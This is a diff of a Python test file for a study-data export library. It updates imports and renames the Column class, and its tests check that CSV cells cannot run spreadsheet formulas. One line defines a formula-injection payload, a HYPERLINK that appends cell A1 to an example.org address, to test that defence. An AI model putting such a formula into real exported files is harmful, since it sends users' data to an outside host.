@@ -20,12 +20,10 @@ from hypothesis import strategies as st
 from answering import finish, first_option, forward, small
 from small_study import begin
 from verax.errors import VeraxError
-from verax.studies.answers.export import FORMATS, export_study
-from verax.studies.answers.export.codebook import to_markdown
-from verax.studies.answers.export.csv_cells import NUMBER, guarded, to_cells, unguarded
-from verax.studies.answers.export.writers import CsvWriter
+from verax.studies.answers.export import FORMATS, export_study, to_markdown
+from verax.studies.answers.export_files import NUMBER, CsvWriter, guarded, to_cells, unguarded
 from verax.studies.answers.flat_records import READERS, view
-from verax.studies.answers.schema import TABLES, Column, shown
+from verax.studies.answers.schema import TABLES, RecordColumn, shown
 from verax.studies.store import open_store
 
 FORMULA = '=HYPERLINK("http://example.org?x="&A1,"free")'
@@ -105,7 +103,7 @@ class TestFiles:
         assert rows == {"participants": 3, "responses": 14, "pages": 18, "events": 1, "exclusions": 2}
 
     def test_large_tables_are_written_in_row_groups(self, opened, clock, tmp_path, monkeypatch):
-        monkeypatch.setattr("verax.studies.answers.export.write.AT_ONCE", 5)
+        monkeypatch.setattr("verax.studies.answers.export.AT_ONCE", 5)
         store = opened(forward())
         finish(store, begin(store), clock)
         export_study(store, tmp_path / "out", ("parquet",))
@@ -171,7 +169,11 @@ class TestFormulas:
     @given(st.text(alphabet=st.sampled_from("'=+-@;\n a1,\"")))
     def test_a_spreadsheet_of_a_country_with_decimal_commas_runs_nothing(self, text):
         """It takes the semicolon for the separator, and so the quotes in the middle of a cell for letters."""
-        columns = [Column("before", "text", ""), Column("said", "text", ""), Column("all", "json", "")]
+        columns = [
+            RecordColumn("before", "text", ""),
+            RecordColumn("said", "text", ""),
+            RecordColumn("all", "json", ""),
+        ]
         row = [
             to_cells(column, [value])[0]
             for column, value in zip(columns, ["x", text, {"q": text}], strict=True)
@@ -200,7 +202,7 @@ class TestFormulas:
         )
     )
     def test_a_csv_reader_gets_every_text_back(self, texts):
-        column = Column("text", "text", "Any.")
+        column = RecordColumn("text", "text", "Any.")
         file = io.StringIO(newline="")
         csv.writer(file).writerows([cell] for cell in to_cells(column, texts))
         rows = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
